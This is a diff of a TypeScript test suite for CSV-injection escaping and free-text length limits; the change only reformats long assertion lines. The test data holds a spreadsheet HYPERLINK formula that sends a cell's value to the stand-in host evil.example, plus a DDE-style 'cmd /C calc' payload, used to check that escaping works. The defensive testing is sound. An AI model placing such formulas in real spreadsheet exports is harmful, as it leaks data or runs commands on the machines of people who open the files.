@@ -3,7 +3,9 @@ import { csvSafe, csvSafeRow, freeTextSchema, printable } from '../src/index.ts'
 
 describe('CSV cells no spreadsheet evaluates (OWASP CSV injection)', () => {
   it('prefixes text that starts with = + - @ tab or CR with an apostrophe', () => {
-    expect(csvSafe('=HYPERLINK("http://evil.example/?d="&A1,"西城区")')).toBe(`'=HYPERLINK("http://evil.example/?d="&A1,"西城区")`);
+    expect(csvSafe('=HYPERLINK("http://evil.example/?d="&A1,"西城区")')).toBe(
+      `'=HYPERLINK("http://evil.example/?d="&A1,"西城区")`,
+    );
     for (const start of ['+', '-', '@', '\t', '\r']) expect(csvSafe(`${start}cmd|' /C calc'!A0`)).toMatch(/^'/);
   });
 
@@ -25,7 +27,9 @@ describe('free text', () => {
   });
 
   it('refuses more than its limit: a 900 KB reason is not kept forever', () => {
-    expect(reason.safeParse('x'.repeat(900_000)).error!.issues[0]!.message).toBe('the reason is longer than 2000 characters');
+    expect(reason.safeParse('x'.repeat(900_000)).error!.issues[0]!.message).toBe(
+      'the reason is longer than 2000 characters',
+    );
     expect(reason.parse('  按台账更正  ')).toBe('按台账更正');
   });
 
